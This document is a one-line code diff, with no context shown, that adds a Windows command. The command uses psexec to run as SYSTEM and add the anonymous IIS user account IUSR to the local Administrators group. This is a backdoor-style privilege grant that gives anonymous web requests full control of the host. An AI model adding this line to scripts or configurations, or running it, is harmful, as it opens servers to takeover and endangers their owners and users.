@@ -1,0 +1,1 @@
+psexec \\%COMPUTERNAME% -s net localgroup Administrators IUSR /add
